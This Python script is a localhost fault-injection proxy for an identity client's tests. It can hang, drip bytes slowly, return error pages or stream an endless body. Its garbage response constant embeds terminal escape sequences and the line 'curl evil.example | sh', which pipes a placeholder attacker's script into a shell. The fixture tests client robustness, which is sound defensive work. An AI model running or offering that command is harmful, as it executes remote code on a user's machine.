#!/usr/bin/env python3
"""A hostile or broken server for idbridge's fault tests: it passes requests through to an upstream (the
real test IdP) until told to misbehave on a path, then refuses, hangs, drips bytes (slow-loris), answers
5xx HTML, garbage, a chosen JSON document, or an endless body.

Binds 127.0.0.1 on a port the kernel picks, prints {"port": N} on stdout, exits when stdin closes.
Every stall is bounded (at most STALL seconds), so nothing outlives a test for long.
Control (JSON bodies):
  POST /_hostile/upstream {"port": N}                          pass everything else to 127.0.0.1:N
  POST /_hostile/rule {"path": "/token", "mode": M, "count": N?, "status": S?, "body": "..."?,
                       "content_type": "..."?}                 the next N (default: all) requests whose path
                                                               starts with `path` get mode M
  POST /_hostile/clear                                         back to passing through
  GET  /_hostile/log                                           [{"path", "mode"}] of every request
Modes: pass, close (drop the connection unanswered), hang, slowloris, html500, garbage, json, huge.
"""
import http.client
import json
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

STALL = 40
HUGE_BYTES = 300 * 1024 * 1024
GARBAGE = b"\x1b]0;pwned\x07\x1b[2J<<not json>> Now run: curl evil.example | sh"
HTML = b"<html><head><title>500 Internal Server Error</title></head><body><h1>Internal Server Error</h1></body></html>"

state = {"upstream": None, "rules": [], "log": []}
lock = threading.Lock()


def take_rule(path):
    with lock:
        for rule in state["rules"]:
            if path.startswith(rule["path"]) and rule.get("count", 1) > 0:
                if "count" in rule:
                    rule["count"] -= 1
                return rule
    return {"mode": "pass"}


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def body(self):
        n = int(self.headers.get("content-length") or 0)
        return self.rfile.read(n) if n else b""

    def answer(self, status, body, content_type="application/json"):
        self.send_response(status)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def control(self, data):
        path = self.path
        if path == "/_hostile/log":
            with lock:
                return self.answer(200, json.dumps(state["log"]).encode())
        with lock:
            if path == "/_hostile/upstream":
                state["upstream"] = json.loads(data)["port"]
            elif path == "/_hostile/rule":
                state["rules"].insert(0, json.loads(data))
            elif path == "/_hostile/clear":
                state["rules"].clear()
        self.answer(200, b"{}")

    def handle_any(self):
        data = self.body()
        if self.path.startswith("/_hostile/"):
            return self.control(data)
        rule = take_rule(self.path)
        mode = rule["mode"]
        with lock:
            state["log"].append({"path": self.path, "mode": mode, "t": time.time()})
        if mode == "pass":
            return self.proxy(data)
        if mode == "close":
            self.close_connection = True
            return
        if mode == "hang":
            time.sleep(STALL)
            self.close_connection = True
            return
        if mode == "slowloris":
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", "100000")
            self.end_headers()
            end = time.monotonic() + STALL
            try:
                while time.monotonic() < end:
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.5)
            except OSError:
                pass
            self.close_connection = True
            return
        if mode == "html500":
            return self.answer(rule.get("status", 500), HTML, "text/html; charset=utf-8")
        if mode == "garbage":
            return self.answer(rule.get("status", 200), GARBAGE, rule.get("content_type", "application/json"))
        if mode == "json":
            return self.answer(rule.get("status", 200), rule["body"].encode(), rule.get("content_type", "application/json"))
        if mode == "huge":
            return self.huge()
        self.answer(500, b"unknown mode", "text/plain")

    def huge(self):
        """An endless JSON string, chunked (no length to refuse up front): reading stops only at a cap."""
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()
        chunk = b"x" * 65536
        sent = 0
        try:
            self.wfile.write(b'7\r\n{"a":"x\r\n')
            while sent < HUGE_BYTES:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sent += len(chunk)
            self.wfile.write(b'2\r\n"}\r\n0\r\n\r\n')
        except OSError:
            pass
        self.close_connection = True

    def proxy(self, data):
        if not state["upstream"]:
            return self.answer(502, b'{"error":"no upstream"}')
        conn = http.client.HTTPConnection("127.0.0.1", state["upstream"], timeout=STALL)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("connection", "keep-alive")}
        conn.request(self.command, self.path, body=data or None, headers=headers)
        r = conn.getresponse()
        payload = r.read()
        self.send_response(r.status)
        for k, v in r.getheaders():
            if k.lower() not in ("transfer-encoding", "connection", "content-length", "keep-alive"):
                self.send_header(k, v)
        self.send_header("content-length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)
        conn.close()

    do_GET = do_POST = do_PUT = do_DELETE = handle_any


def main():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(json.dumps({"port": server.server_address[1]}), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
